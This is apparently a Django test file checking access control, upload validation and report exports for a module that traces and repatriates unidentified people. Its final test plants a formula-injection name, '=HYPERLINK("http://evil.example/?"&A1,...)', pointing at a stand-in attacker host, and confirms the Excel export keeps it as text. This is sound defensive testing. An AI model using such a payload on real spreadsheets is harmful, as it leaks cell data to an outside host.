"""Every tracing page: login, outsider 404 (nothing changed), supervisor reads but 403 on writes, owner acts;
police users see only requests addressed to their organisation and never the person's file."""

import datetime

import pytest
from django.urls import reverse
from django.utils import timezone

from tracing import services
from tracing.models import (
    CheckAttachment,
    CheckResult,
    CheckStatus,
    DnaRequest,
    Escalation,
    Identification,
    IdentityCheck,
    Lead,
    PlanStatus,
    ReturnPlan,
    Talk,
    TracerAssignment,
)
from tracing.tests.factories import png, unidentified

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(cast):
    from core.models import Role, User, UserRole

    second = User.objects.create_user(username="tracer2", password="x", full_name="孙寻亲", organisation=cast.station)
    UserRole.objects.create(user=second, role=Role.TRACER)
    episode = unidentified(cast, with_photo=True)
    person = episode.person
    services.tracer_assign(by=cast.head, episode=episode, tracer=cast.tracer)
    talk = services.talk_add(by=cast.tracer, episode=episode, held_at=timezone.now(),
                             content="他说他叫张建国，老家在河南周口郸城县。")
    lead = services.lead_create(by=cast.tracer, episode=episode, kind="station_call", text="郸城县", talk=talk,
                                organisation=cast.city_station)
    check = services.check_create(by=cast.tracer, person=person, police=cast.police,
                                  photo=person.photos.first(), known_info="男，约45岁")
    answered = services.check_create(by=cast.tracer, person=person, police=cast.police, known_info="第二次")
    services.check_answer(by=cast.police_officer, check=answered, result=CheckResult.PARTIAL, answer_text="有线索",
                          attachments=[png("a.png")])
    draft = services.check_create(by=cast.tracer, person=person, police=cast.police, known_info="草稿", send=False)
    dna = services.dna_request_create(by=cast.tracer, episode=episode, police=cast.police)
    found = unidentified(cast, name="赵六")
    ident = services.identity_confirm(by=cast.tracer, person=found.person, method="talks", evidence="谈话核实")
    plan = services.return_plan_update(by=cast.tracer, plan=ident.return_plan, status=PlanStatus.REFUSED,
                                       method="escorted", refusal_reason="拒收")
    escalation = services.escalate(by=cast.tracer, plan=plan)
    return {"episode": episode, "person": person, "talk": talk, "lead": lead, "check": check, "answered": answered,
            "draft": draft, "dna": dna, "plan": plan, "escalation": escalation,
            "attachment": answered.attachments.first(), "second_tracer": second}


def _reads(w, cast):
    p = w["person"].uuid
    return {
        "home": reverse("tracing:home"),
        "check": reverse("tracing:check", args=[w["check"].uuid]),
        "check_photo": reverse("tracing:check_photo", args=[w["check"].uuid]),
        "check_print": reverse("tracing:check_print", args=[w["check"].uuid]),
        "attachment": reverse("tracing:attachment", args=[w["attachment"].uuid]),
        "talk": reverse("tracing:talk", args=[w["talk"].uuid]),
        "lead": reverse("tracing:lead", args=[w["lead"].uuid]),
        "dna": reverse("tracing:dna", args=[w["dna"].uuid]),
        "plan": reverse("tracing:plan", args=[w["plan"].uuid]),
        "report_index": reverse("tracing:report_index"),
        "report": reverse("tracing:report", args=[cast.station.uuid]),
        "report_print": reverse("tracing:report_print", args=[cast.station.uuid]),
        "report_xlsx": reverse("tracing:report_xlsx", args=[cast.station.uuid]),
        "person": reverse("people:detail", args=[p]),
    }


def _writes(w, cast):
    """(url, POST data that the owner could save)."""
    p = w["person"].uuid
    now = timezone.localtime().strftime("%Y-%m-%dT%H:%M")
    return {
        "check_new": (reverse("tracing:check_new", args=[p]), {"police": cast.police.uuid, "known_info": "男",
                                                                 "send": "on"}),
        "check_send": (reverse("tracing:check_send", args=[w["draft"].uuid]), {}),
        "assign": (reverse("tracing:assign", args=[p]), {"tracer": w["second_tracer"].uuid}),
        "talk_new": (reverse("tracing:talk_new", args=[p]), {"held_at": now, "content": "又谈了一次"}),
        "lead_new": (reverse("tracing:lead_new", args=[p]), {"kind": "match_query", "text": "张建国"}),
        "lead_resolve": (reverse("tracing:lead", args=[w["lead"].uuid]), {"status": "done", "outcome": "已联系"}),
        "dna_new": (reverse("tracing:dna_new", args=[p]), {"police": cast.police.uuid}),
        "dna_edit": (reverse("tracing:dna", args=[w["dna"].uuid]),
                     {"sample_taken_on": timezone.localdate().isoformat()}),
        "identify": (reverse("tracing:identify", args=[p]), {"method": "police", "evidence": "答复", "name": "张建国"}),
        "plan": (reverse("tracing:plan", args=[w["plan"].uuid]), {"status": "in_progress", "method": "escorted"}),
        "escalate": (reverse("tracing:plan_escalate", args=[w["plan"].uuid]), {"note": "再上报"}),
        "escalation": (reverse("tracing:escalation", args=[w["escalation"].uuid]), {"answer": "已协调"}),
        "answer": (reverse("tracing:check_answer", args=[w["check"].uuid]),
                   {"result": "not_found", "answer_text": "未查到"}),
    }


def _state():
    return [m.objects.count() for m in (IdentityCheck, CheckAttachment, TracerAssignment, Talk, Lead, DnaRequest,
                                        Identification, ReturnPlan, Escalation)] + [
        list(IdentityCheck.objects.order_by("pk").values_list("status", flat=True)),
        list(DnaRequest.objects.values_list("sample_taken_on", flat=True)),
        list(ReturnPlan.objects.values_list("status", flat=True)),
        list(Escalation.objects.values_list("answer", flat=True)),
        list(Lead.objects.values_list("status", flat=True))]


def test_every_tracing_page_requires_login(client, cast, world):
    for name, url in {**_reads(world, cast), **{k: v[0] for k, v in _writes(world, cast).items()}}.items():
        response = client.get(url)
        assert response.status_code == 302 and "/accounts/login/" in response["Location"], name


def test_it_hides_tracing_from_an_outsider_and_changes_nothing(client_for, cast, world):
    client = client_for(cast.outsider)
    before = _state()
    for name, url in _reads(world, cast).items():
        response = client.get(url)
        if name in ("home", "report_index"):
            body = response.content.decode()
            assert response.status_code == 200 and world["person"].name not in body and "赵六" not in body
        else:
            assert response.status_code == 404, name
    for name, (url, data) in _writes(world, cast).items():
        assert client.post(url, data).status_code == 404, name
    assert _state() == before


def test_a_supervisor_reads_tracing_but_gets_403_on_every_write(client_for, cast, world):
    client = client_for(cast.county_supervisor)
    for name, url in _reads(world, cast).items():
        assert client.get(url).status_code == 200, name
    before = _state()
    for name, (url, data) in _writes(world, cast).items():
        if name == "escalation":
            continue  # the department the case was escalated to may answer; see the test below
        assert client.post(url, data).status_code == 403, name
    assert _state() == before


def test_t9_the_department_an_escalation_was_sent_to_records_its_answer(client_for, cast, world):
    assert world["escalation"].to_organisation == cast.county_dept
    response = client_for(cast.county_supervisor).post(reverse("tracing:escalation", args=[world["escalation"].uuid]),
                                                       {"answer": "已协调户籍地接收"})
    assert response.status_code == 302
    world["escalation"].refresh_from_db()
    assert world["escalation"].answer == "已协调户籍地接收"
    # The city department sees the plan (subtree) but was not asked: read-only.
    assert client_for(cast.city_supervisor).post(
        reverse("tracing:escalation", args=[world["escalation"].uuid]), {"answer": "x"}).status_code == 403


def test_the_owner_station_acts_on_every_page(client_for, cast, world):
    client = client_for(cast.head)
    for name, url in _reads(world, cast).items():
        assert client.get(url).status_code == 200, name
    writes = _writes(world, cast)
    for name in ("check_new", "check_send", "talk_new", "lead_new", "lead_resolve", "dna_new", "dna_edit", "plan",
                 "escalate", "escalation", "assign"):
        url, data = writes[name]
        response = client.post(url, data)
        assert response.status_code == 302, (name, response.content.decode()[:2000])
    assert IdentityCheck.objects.filter(status=CheckStatus.DRAFT).count() == 0
    assert Talk.objects.count() == 2 and DnaRequest.objects.count() == 2
    url, data = writes["identify"]
    assert client.post(url, data).status_code == 302
    world["person"].refresh_from_db()
    assert world["person"].name == "张建国"


def test_a_police_user_sees_only_requests_addressed_to_their_organisation(client_for, cast, world):
    from core.models import Organisation, OrgKind, Role, User, UserRole

    other_police = Organisation.objects.create(name="英德市公安局", code="YDGA", kind=OrgKind.POLICE,
                                               division=cast.station.division)
    other_officer = User.objects.create_user(username="other_police", password="x", organisation=other_police)
    UserRole.objects.create(user=other_officer, role=Role.POLICE)
    client = client_for(cast.police_officer)
    inbox = client.get(reverse("tracing:home")).content.decode()
    assert world["check"].number in inbox and world["answered"].number in inbox
    assert world["draft"].number not in inbox  # drafts are not sent
    detail = client.get(reverse("tracing:check", args=[world["check"].uuid]))
    assert detail.status_code == 200 and "男，约45岁" in detail.content.decode()
    assert world["person"].file_no not in detail.content.decode()
    assert client.get(reverse("tracing:check_photo", args=[world["check"].uuid])).status_code == 200
    for url in (reverse("people:detail", args=[world["person"].uuid]),
                reverse("tracing:check", args=[world["draft"].uuid]),
                reverse("tracing:talk", args=[world["talk"].uuid]), reverse("tracing:dna", args=[world["dna"].uuid]),
                reverse("tracing:plan", args=[world["plan"].uuid])):
        assert client.get(url).status_code == 404, url
    client = client_for(other_officer)
    assert world["check"].number not in client.get(reverse("tracing:home")).content.decode()
    assert client.get(reverse("tracing:check", args=[world["check"].uuid])).status_code == 404
    assert client.post(reverse("tracing:check_answer", args=[world["check"].uuid]),
                       {"result": "not_found", "answer_text": "x"}).status_code == 404


def test_t2_the_addressed_police_answer_with_an_attachment(client_for, cast, world):
    client = client_for(cast.police_officer)
    url = reverse("tracing:check_answer", args=[world["check"].uuid])
    assert client.get(url).status_code == 200
    response = client.post(url, {"result": "identified", "answered_name": "张建国", "answer_text": "人像比中",
                                 "attachments": [png("face.png")]})
    assert response.status_code == 302
    check = IdentityCheck.objects.get(pk=world["check"].pk)
    assert check.status == CheckStatus.ANSWERED and check.attachments.count() == 1
    # The station cannot answer its own request.
    assert client_for(cast.head).post(reverse("tracing:check_answer", args=[world["answered"].uuid]),
                                      {"result": "not_found"}).status_code == 403


def test_t2_a_non_image_attachment_shows_a_chinese_message_and_saves_nothing(client_for, cast, world):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = client_for(cast.police_officer)
    response = client.post(reverse("tracing:check_answer", args=[world["check"].uuid]), {
        "result": "not_found", "answer_text": "未查到",
        "attachments": [SimpleUploadedFile("x.exe", b"MZ\x90\x00binary", content_type="application/octet-stream")]})
    assert response.status_code == 200 and "只接受 JPEG、PNG 或 WebP 图片或 PDF" in response.content.decode()
    assert IdentityCheck.objects.get(pk=world["check"].pk).status == CheckStatus.SENT


def test_t4_the_person_panel_shows_the_per_day_talk_table_and_the_attempt_log(client_for, cast, world):
    body = client_for(cast.tracer).get(reverse("people:detail", args=[world["person"].uuid])).content.decode()
    assert "规则T4" in body and "第1天" in body and "寻亲手段记录" in body and "公安身份核查" in body
    assert "公安核查 <small class=\"muted\">T1</small>" in body  # plain Chinese first, the code as a hint


def test_t10_the_panel_member_reads_the_report_and_exports_pdf_and_excel(client_for, cast, world):
    client = client_for(cast.panel_member)
    month = timezone.localdate().strftime("%Y-%m")
    page = client.get(reverse("tracing:report", args=[cast.station.uuid]) + f"?month={month}")
    assert page.status_code == 200 and world["person"].name in page.content.decode()
    pdf = client.get(reverse("tracing:report_print", args=[cast.station.uuid]) + f"?month={month}&format=pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    xlsx = client.get(reverse("tracing:report_xlsx", args=[cast.station.uuid]) + f"?month={month}")
    assert xlsx.status_code == 200 and xlsx.content[:2] == b"PK"
    # The panel cannot open the person's file, nor any other station's report.
    assert client.get(reverse("people:detail", args=[world["person"].uuid])).status_code == 404
    assert client.get(reverse("tracing:report", args=[cast.other_station.uuid])).status_code == 404


def test_t1_a_page_request_to_a_non_police_organisation_is_refused_and_nothing_saved(client_for, cast, world):
    before = IdentityCheck.objects.count()
    response = client_for(cast.tracer).post(reverse("tracing:check_new", args=[world["person"].uuid]),
                                            {"police": cast.hospital.uuid, "known_info": "男", "send": "on"})
    assert response.status_code == 200 and "有效" in response.content.decode()
    assert IdentityCheck.objects.count() == before


def test_t4_a_talk_in_the_future_shows_a_chinese_message(client_for, cast, world):
    later = (timezone.localtime() + datetime.timedelta(days=1)).strftime("%Y-%m-%dT%H:%M")
    response = client_for(cast.tracer).post(reverse("tracing:talk_new", args=[world["person"].uuid]),
                                            {"held_at": later, "content": "x"})
    assert "谈话时间不能晚于当前时间" in response.content.decode()
    assert Talk.objects.count() == 1


def test_t10_a_name_written_as_a_formula_stays_text_in_the_monthly_xlsx(client_for, cast):
    """Issue 8 hole 6: a name ``=HYPERLINK(...)`` must not become a live formula in the monthly report."""
    import io
    import zipfile

    from openpyxl import load_workbook

    from tracing.tests.factories import unidentified

    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    unidentified(cast, name=evil)
    month = timezone.localdate().strftime("%Y-%m")
    response = client_for(cast.tracer).get(reverse("tracing:report_xlsx", args=[cast.station.uuid]) + f"?month={month}")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    ws = load_workbook(io.BytesIO(response.content)).active
    names = [row[1] for row in ws.iter_rows(values_only=True)]
    assert evil in names
    cell = next(c for row in ws.iter_rows() for c in row if c.value == evil)
    assert cell.data_type == "s" and cell.quotePrefix
